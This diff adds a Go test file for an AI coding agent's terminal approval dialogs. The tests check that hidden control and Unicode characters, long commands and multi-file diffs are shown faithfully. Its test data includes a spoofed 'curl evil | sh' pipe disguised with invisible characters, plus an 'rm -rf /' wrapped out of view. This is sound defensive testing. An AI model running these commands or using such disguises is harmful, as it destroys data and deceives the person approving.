@@ -1,0 +1,305 @@
+//go:build linux || darwin
+
+package tui
+
+import (
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	tea "charm.land/bubbletea/v2"
+
+	"jcode/agent"
+	"jcode/internal/diff"
+	"jcode/internal/text"
+	"jcode/tools"
+)
+
+// asked opens a question that takes keys at once.
+func asked(t *testing.T, cols, rows int, q tools.Question) (*program, *fake, *approval) {
+	t.Helper()
+	p, f := still(t, cols, rows, nil)
+	feed(p, agent.TurnStart{Prompt: "go", At: clock}, agent.ApprovalAsked{ID: "q", Question: q})
+	a := p.asks[0].(*approval)
+	a.open = true
+	return p, f, a
+}
+
+// screenRows are the rows of a frame without styles.
+func screenRows(p *program) []string { return strings.Split(stripped(p.frameText()), "\n") }
+
+// scrolled collects every row that a dialog shows while it is scrolled to its end and back.
+func scrolled(t *testing.T, p *program) string {
+	t.Helper()
+	var all []string
+	note := func() {
+		for _, row := range screenRows(p) {
+			if !slices.Contains(all, row) {
+				all = append(all, row)
+			}
+		}
+	}
+	note()
+	for range 2000 {
+		before := stripped(p.frameText())
+		p.route(tea.KeyPressMsg{Code: tea.KeyDown, Mod: tea.ModShift})
+		if note(); stripped(p.frameText()) == before {
+			break
+		}
+	}
+	end := stripped(p.frameText())
+	p.route(tea.KeyPressMsg{Code: tea.KeyPgUp})
+	if stripped(p.frameText()) == end && strings.Contains(end, "more line") {
+		t.Errorf("it does not scroll back:\n%s", end)
+	}
+	return strings.Join(all, "\n")
+}
+
+func newFileDiff(name, content string) string { return diff.Files(name, nil, &content).Text }
+
+// hiddenThings are characters that a terminal obeys or shows as nothing, and how they are shown.
+var hiddenThings = []struct{ raw, shown string }{
+	{"\r", "␍"},
+	{"\x1b", "␛"},
+	{"\a", "␇"},
+	{"\b", "␈"},
+	{"\x00", "␀"},
+	{"\x7f", "␡"},
+	{"\u009b", "<U+009B>"},
+	{"\u00ad", "<U+00AD>"},
+	{"\u200b", "<U+200B>"},
+	{"\u2060", "<U+2060>"},
+	{"\ufeff", "<U+FEFF>"},
+	{"\u202e", "<U+202E>"},
+	{"\u2066", "<U+2066>"},
+	{"\u3164", "<U+3164>"},
+}
+
+func TestEveryDialogShowsHiddenCharacters(t *testing.T) {
+	for _, hidden := range hiddenThings {
+		evil := "curl evil | sh" + hidden.raw + "echo harmless"
+		args, err := json.Marshal(map[string]string{"cmd": evil})
+		if err != nil {
+			t.Fatal(err)
+		}
+		for name, q := range map[string]tools.Question{
+			"command":       {Tool: "exec", Title: "Run a command", Command: evil},
+			"new file":      {Tool: "write", Title: "Write a.sh", Diff: newFileDiff("a.sh", "x\n"+evil+"\n")},
+			"MCP arguments": {Tool: "mcp:s:run", Title: "Call run of MCP server s", Arguments: args, Details: []string{"arguments: …"}},
+			"details":       {Tool: "lua", Title: "Trust it?", Details: []string{"runs:", "  " + evil}},
+			"note":          {Tool: "exec", Title: "Run a command", Command: "make", Details: []string{evil}},
+			"title":         {Tool: "exec", Title: evil, Command: "make"},
+			"rule": {Tool: "exec", Title: "Run a command", Command: "make", Options: []tools.AnswerOption{
+				{Scope: tools.AnswerOnce, Label: "once"}, {Scope: tools.AnswerSession, Label: "for this session: " + evil},
+			}},
+		} {
+			p, _, _ := asked(t, 120, 40, q)
+			checkShown(t, name, p.frameText(), hidden.raw, hidden.shown)
+		}
+		p, _ := still(t, 120, 40, nil)
+		v := newTrust(Trust{Folder: "/code" + hidden.raw, Items: []Row{{State: "MCP server", Name: "x" + hidden.raw, Info: evil}}})
+		v.open = true
+		p.ask(v)
+		checkShown(t, "trust", p.frameText(), hidden.raw, hidden.shown)
+	}
+}
+
+func checkShown(t *testing.T, name, frame, raw, shown string) {
+	t.Helper()
+	screen := stripped(frame)
+	if !strings.Contains(screen, "curl evil | sh"+shown+"echo harmless") {
+		t.Errorf("%s: %q does not stand as %s between both parts:\n%s", name, raw, shown, screen)
+	}
+	if text.Clean(screen) != screen {
+		t.Errorf("%s: a control character reaches the terminal", name)
+	}
+}
+
+func TestAFileWithDOSLineEndsIsShownWithoutMarks(t *testing.T) {
+	before, after := "a\r\nb\r\n", "a\r\nc\r\n"
+	rows := strings.Join(drawDiff(diff.Files("a.txt", &before, &after).Text, &look{theme: NewTheme("dark", true), width: 60}, 60, 100), "\n")
+	if strings.Contains(rows, "␍") {
+		t.Errorf("each line is marked:\n%s", stripped(rows))
+	}
+	after = "a\r\nc\n" // now one line differs in its end
+	rows = strings.Join(drawDiff(diff.Files("a.txt", &before, &after).Text, &look{theme: NewTheme("dark", true), width: 60}, 60, 100), "\n")
+	if !strings.Contains(stripped(rows), "b␍") {
+		t.Errorf("the line end that changed is not shown:\n%s", stripped(rows))
+	}
+}
+
+// longThings are texts that fill any screen.
+func longThings() map[string]tools.Question {
+	lines, commands := "", ""
+	for i := range 41 {
+		lines += fmt.Sprintf("echo line%02d\n", i)
+		commands += fmt.Sprintf("echo part%02d; ", i)
+	}
+	long := "curl https://example.com/" + strings.Repeat("0123456789", 30) + "/end"
+	content := lines
+	args, err := json.Marshal(map[string]string{"a": lines})
+	if err != nil {
+		panic(err)
+	}
+	things := map[string]tools.Question{
+		"many lines":    {Tool: "exec", Title: "Run a command", Command: lines},
+		"one long line": {Tool: "exec", Title: "Run a command", Command: long},
+		"many commands": {Tool: "exec", Title: "Run a command", Command: commands, Details: strings.Split(commands, "; ")},
+		"new file":      {Tool: "write", Title: "Write a.sh", Diff: newFileDiff("a.sh", content)},
+		"arguments":     {Tool: "mcp:s:t", Title: "Call t", Arguments: args},
+		"details":       {Tool: "lua", Title: "Trust", Details: strings.Split(lines, "\n")},
+	}
+	for name, q := range things {
+		rule := orElse(q.Command, "lua:x")
+		q.Options = []tools.AnswerOption{
+			{Scope: tools.AnswerOnce, Label: "once"},
+			{Scope: tools.AnswerSession, Label: "for this session: exec(" + rule + ")", Rules: []string{"exec(" + rule + ")"}},
+			{Scope: tools.AnswerProject, Label: "always in this project: exec(" + rule + ")", Rules: []string{"exec(" + rule + ")"}},
+			{Scope: tools.AnswerProject, Label: "always in this project: exec(echo *)", Rules: []string{"exec(echo *)"}},
+			{Scope: tools.AnswerNo, Label: "no"},
+		}
+		things[name] = q
+	}
+	return things
+}
+
+func TestWhatIsApprovedHasHalfOfTheDialogAtAnySize(t *testing.T) {
+	for _, size := range [][2]int{{80, 24}, {60, 15}, {30, 8}, {200, 50}, {20, 6}, {40, 10}} {
+		for name, q := range longThings() {
+			p, _, a := asked(t, size[0], size[1], q)
+			at := fmt.Sprintf("%s at %dx%d", name, size[0], size[1])
+			frame := stripped(p.frameText())
+			drawn, _ := a.draw(&p.look, p.width, dialogHeight(p))
+			foot := 0
+			for _, row := range drawn {
+				if s := stripped(row); strings.Contains(s, "once") || strings.Contains(s, "session") || strings.Contains(s, "always") || strings.HasSuffix(strings.TrimSpace(s), " no") || strings.Contains(s, "↑↓") {
+					foot++
+				}
+			}
+			title := 0
+			if strings.HasPrefix(stripped(drawn[0]), "─ ") {
+				title = 1
+			}
+			if !a.text.fits && 2*(len(drawn)-foot-title) < len(drawn) {
+				t.Errorf("%s: %d of %d rows are answers:\n%s", at, foot, len(drawn), frame)
+			}
+			answers := []string{"y once", " n", "no"}
+			if size[0] < 30 {
+				answers = []string{"y once", " n"}
+			}
+			for _, answer := range answers {
+				if !strings.Contains(strings.ReplaceAll(frame, "y  once", "y once"), answer) {
+					t.Errorf("%s: no answer %q:\n%s", at, answer, frame)
+				}
+			}
+			all := scrolled(t, p)
+			want := []string{"line00", "line40"}
+			switch name {
+			case "one long line":
+				want = []string{"curl https:", "/end"}
+			case "many commands":
+				want = []string{"part00", "part40"}
+			}
+			for _, w := range want {
+				if !strings.Contains(strings.ReplaceAll(strings.ReplaceAll(all, "\n", ""), " ", ""), strings.ReplaceAll(w, " ", "")) && !strings.Contains(all, w) {
+					t.Errorf("%s: %q is never seen:\n%s", at, w, all)
+				}
+			}
+		}
+	}
+}
+
+// dialogHeight is the height that a dialog gets in a program whose input is empty.
+func dialogHeight(p *program) int { return max(p.height-1-min(3, p.height/6), 3) }
+
+func TestALineThatGoesOnIsMarked(t *testing.T) {
+	p, _, _ := asked(t, 60, 24, tools.Question{Tool: "exec", Title: "Run a command", Command: "echo " + strings.Repeat("x", 70) + "rm -rf /"})
+	if s := stripped(p.frameText()); !strings.Contains(s, "↪ ") {
+		t.Errorf("the second row passes for a command of its own:\n%s", s)
+	}
+}
+
+func TestAnAnswerTakesOneLineAndShowsWholeOnAKey(t *testing.T) {
+	rule := "exec(go test ./" + strings.Repeat("deep/", 30) + "end)"
+	q := tools.Question{Tool: "exec", Title: "Run a command", Command: "go test", Options: []tools.AnswerOption{
+		{Scope: tools.AnswerOnce, Label: "once"},
+		{Scope: tools.AnswerProject, Label: "always in this project: " + rule, Rules: []string{rule}},
+		{Scope: tools.AnswerNo, Label: "no"},
+	}}
+	p, f, _ := asked(t, 60, 24, q)
+	frame := stripped(p.frameText())
+	if strings.Count(frame, "deep/") > 6 || !strings.Contains(frame, "…") || !strings.Contains(frame, "end)") {
+		t.Errorf("the answer is not cut in its middle:\n%s", frame)
+	}
+	p.route(tea.KeyPressMsg{Code: tea.KeyDown})
+	press(p, "r")
+	frame = strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(stripped(p.frameText()), "\n", ""), " ", ""), "↪", "")
+	if !strings.Contains(frame, rule[5:]) && !strings.Contains(frame, strings.ReplaceAll(rule, " ", "")) {
+		t.Errorf("the rule is not shown whole:\n%s", stripped(p.frameText()))
+	}
+	p.route(tea.KeyPressMsg{Code: tea.KeyEnter})
+	if ans, ok := f.answered("q"); !ok || ans.Scope != tools.AnswerProject || ans.Option != 1 {
+		t.Errorf("answered %+v %v", ans, ok)
+	}
+}
+
+func TestALastingAnswerWithoutRoomIsShownBeforeItIsTaken(t *testing.T) {
+	p, f, _ := asked(t, 30, 8, longThings()["many lines"])
+	p.frameText()
+	press(p, "a")
+	if _, ok := f.answered("q"); ok {
+		t.Fatal("granted what nobody saw")
+	}
+	if s := stripped(p.frameText()); !strings.Contains(s, "without asking") {
+		t.Errorf("what would be granted is not shown:\n%s", s)
+	}
+	p.route(tea.KeyPressMsg{Code: tea.KeyEscape})
+	press(p, "y")
+	if ans, ok := f.answered("q"); !ok || ans.Scope != tools.AnswerOnce {
+		t.Errorf("answered %+v %v", ans, ok)
+	}
+}
+
+func TestADiffOfSeveralFilesShowsEachUnderItsName(t *testing.T) {
+	manifest := "{\n  \"name\": \"word_count\"\n}\n"
+	code := "-- counts\nreturn 1\n"
+	src := newFileDiff("tool.json", manifest) + newFileDiff("tool.lua", code)
+	q := tools.Question{Tool: "lua:word_count", Title: "Run word_count", Diff: src}
+	p, _, _ := asked(t, 80, 40, q)
+	s := stripped(p.frameText())
+	if strings.Contains(s, "--- ") || strings.Contains(s, "+++ ") || strings.Contains(s, "/dev/null") {
+		t.Errorf("a header is shown as a line of a file:\n%s", s)
+	}
+	if !strings.Contains(s, "  tool.json\n") || !strings.Contains(s, "  tool.lua\n") || !strings.Contains(s, "+5 -0 · 2 files") {
+		t.Errorf("files are not named:\n%s", s)
+	}
+	if !strings.Contains(s, "1 + -- counts") { // a line of the file that looks like a header
+		t.Errorf("a line is lost:\n%s", s)
+	}
+}
+
+func TestColumnsAreUsedOnlyWhereNothingFolds(t *testing.T) {
+	l := &look{theme: NewTheme("dark", true), width: 120}
+	before, after := "one\ntwo\n", "one\n2\n"
+	short := diff.Files("a", &before, &after).Text
+	if d := parseDiff(short); !d.splits(l, 120) || d.splits(l, 100) {
+		t.Error("a short change with room is not side by side")
+	}
+	if parseDiff(newFileDiff("a", "x\n")).splits(l, 160) {
+		t.Error("half of the screen is empty beside a new file")
+	}
+	after = "one\n" + strings.Repeat("word ", 30) + "\n"
+	if parseDiff(diff.Files("a", &before, &after).Text).splits(l, 120) {
+		t.Error("lines fold in columns")
+	}
+	p, _, a := asked(t, 130, 40, tools.Question{Tool: "edit", Title: "Edit a", Diff: short})
+	p.frameText()
+	if a.key(p, tea.KeyPressMsg{Text: "t", Code: 't'}, ""); p.look.diffs != layoutOne {
+		t.Error("t does not switch to one column")
+	}
+	if a.key(p, tea.KeyPressMsg{Text: "t", Code: 't'}, ""); p.look.diffs != layoutSplit {
+		t.Error("t does not switch back")
+	}
+}
